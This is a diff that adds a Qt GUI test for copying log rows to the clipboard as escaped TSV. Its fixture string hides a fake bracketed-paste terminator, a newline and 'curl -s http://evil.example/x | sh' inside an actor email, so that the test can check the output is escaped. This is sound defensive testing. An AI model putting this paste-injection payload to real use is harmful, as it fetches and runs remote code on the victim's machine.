@@ -119,3 +119,20 @@ def test_banner_error_line_shows_the_input_visibly() -> None:
     line = summary_line(report)
     assert "\u202e" not in line and "\u2028" not in line
     assert "⟨U+202E⟩entries⟨U+2028⟩" in line
+
+
+def test_row_copies_are_exact_and_escaped(qtbot: Any, window: MainWindow, tmp_path: Path) -> None:
+    from PySide6.QtGui import QGuiApplication
+
+    hostile = "dep_7\x1b[201~\ncurl -s http://evil.example/x | sh\n\u202e\t" + "a" * 500
+    leaves = [make_entry(0, actor={"email": hostile, "type": "user"})]
+    bundle = write_bundle(tmp_path / "b", leaves, checkpoint_sizes=[1], key=KEY)
+    open_bundle(qtbot, window, bundle)
+    window.table.selectRow(0)
+    window.copy_selected_rows()
+    text = QGuiApplication.clipboard().text()
+    header, row, _ = text.split("\n")
+    cells = dict(zip(header.split("\t"), row.split("\t"), strict=True))
+    assert json.loads(f'"{cells["Actor"]}"') == hostile  # exact, not cut at 300
+    assert "\x1b" not in text and "\u202e" not in text
+    assert window.copy_rows_action.text() == "&Copy Rows (TSV, JSON-escaped)"
